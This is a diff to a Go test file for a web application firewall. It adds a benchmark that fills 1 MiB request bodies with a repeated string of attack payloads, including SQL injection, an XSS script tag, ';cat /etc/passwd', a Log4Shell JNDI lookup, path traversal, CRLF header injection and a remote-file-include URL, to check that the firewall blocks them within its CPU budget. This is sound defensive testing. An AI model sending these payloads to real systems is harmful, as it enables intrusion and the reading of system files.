@@ -2,6 +2,7 @@ package waf_test
 
 import (
 	"fmt"
+	"net/url"
 	"strings"
 	"testing"
 	"time"
@@ -49,6 +50,39 @@ func TestLargeBodiesFitTheBudget(t *testing.T) {
 				t.Errorf("%s: %+v", name, m)
 			}
 		}
+	}
+}
+
+// hostile are bodies of 1 MiB that open every gate.
+func hostile() map[string]request {
+	const all = "1' union select a from b-- <script>alert(1)</script>;cat /etc/passwd ${jndi:ldap://x/a} ../../etc/passwd %0d%0aSet-Cookie: a=b http://192.0.2.1/a.php? "
+	field := url.QueryEscape(strings.Repeat(all, 4))
+	return map[string]request{
+		"attacks in a thousand fields": {body: strings.Repeat("f="+field+"&", (1<<20-100)/(len(field)+3))},
+		"attacks in one field":         {body: "f=" + url.QueryEscape(strings.Repeat(all, (1<<20)*3/4/len(all)))},
+		"attacks in bytes":             {body: strings.Repeat(all, (1<<20)/len(all)), kind: "application/octet-stream"},
+		"attacks in JSON":              {body: `["` + strings.Repeat(strings.ReplaceAll(all, `"`, ` `)+`","`, (1<<20-1000)/(len(all)+3)) + `"]`, kind: "application/json"},
+	}
+}
+
+func BenchmarkHostile(b *testing.B) {
+	e := engine(b, everything())
+	for name, q := range hostile() {
+		b.Run(name, func(b *testing.B) {
+			before, n, ended := processorTime(), 0, 0
+			for b.Loop() {
+				v, matches := q.through(e)
+				if !v.Block {
+					b.Fatal("it passes")
+				}
+				if matches[len(matches)-1].Rule == "Inspection Not Completed" {
+					ended++
+				}
+				n++
+			}
+			b.ReportMetric(float64((processorTime()-before).Milliseconds())/float64(n), "cpu-ms/op")
+			b.ReportMetric(float64(ended)/float64(n), "ended-by-budget")
+		})
 	}
 }
 
